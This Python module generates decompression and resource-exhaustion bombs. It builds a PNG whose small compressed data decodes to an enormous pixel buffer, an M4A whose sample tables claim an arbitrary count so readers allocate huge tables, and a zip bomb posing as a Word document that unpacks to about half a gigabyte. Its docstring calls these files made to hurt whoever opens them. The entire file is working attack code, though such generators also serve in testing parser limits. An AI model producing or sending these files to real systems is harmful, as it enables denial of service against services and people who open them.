"""Files made to hurt whoever opens them, a few hundred bytes each."""

import io
import struct
import zipfile
import zlib

from PIL import Image


def huge_png(width: int, height: int) -> bytes:
    """A picture of one colour: its pixels take width * height * 3 bytes, the file a thousandth of that."""
    made = io.BytesIO()
    squeeze = zlib.compressobj(9)
    row = b"\0" + bytes(width * 3)
    pixels = b"".join(squeeze.compress(row) for _ in range(height)) + squeeze.flush()
    Image.new("RGB", (1, 1)).save(made, "PNG")
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return made.getvalue()[:8] + _chunk(b"IHDR", head) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def claiming_m4a(samples: int) -> bytes:
    """Sound that says it has so many samples, and the library that reads it makes a table of all of them."""
    decoder = bytes([3, 25, 0, 1, 0, 4, 17, 64, 21, 0, 0, 0]) + _words(64_000, 64_000) + bytes([5, 2, 21, 136, 6, 1, 2])
    kind = bytes(7) + b"\1" + bytes(8) + b"\0\1\0\x10" + bytes(4) + _words(8_000 << 16)
    tables = _box(
        b"stbl",
        _full(b"stsd", _words(1), _box(b"mp4a", kind[1:], _full(b"esds", decoder))),
        _full(b"stts", _words(1, samples, 1_024)),
        _full(b"stsc", _words(1, 1, samples, 1)),
        _full(b"stsz", _words(1, samples)),
        _full(b"stco", _words(1, 40)),
    )
    here = _box(b"dinf", _full(b"dref", _words(1), _full(b"url ")))
    media = _box(
        b"mdia",
        _full(b"mdhd", _words(0, 0, 8_000, 8_000, 0x55C40000)),
        _full(b"hdlr", _words(0), b"soun", bytes(13)),
        _box(b"minf", _full(b"smhd", _words(0)), here, tables),
    )
    track = _box(b"trak", _box(b"tkhd", b"\0\0\0\7" + _words(0, 0, 1, 0, 8_000) + bytes(60)), media)
    film = _full(b"mvhd", _words(0, 0, 1_000, 1_000, 0x10000, 0x1000000) + bytes(68) + _words(2))
    return _box(b"ftyp", b"M4A \0\0\0\0isom") + _box(b"moov", film, track) + _box(b"mdat", bytes(100))


def zip_bomb() -> bytes:
    """A document whose text unpacks to half a gigabyte."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed, packed.open("word/document.xml", "w") as inside:
        for _ in range(512):
            inside.write(bytes(1024 * 1024))
    return made.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _words(*values: int) -> bytes:
    return struct.pack(f">{len(values)}I", *values)


def _box(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def _full(kind: bytes, *parts: bytes) -> bytes:
    return _box(kind, bytes(4), *parts)
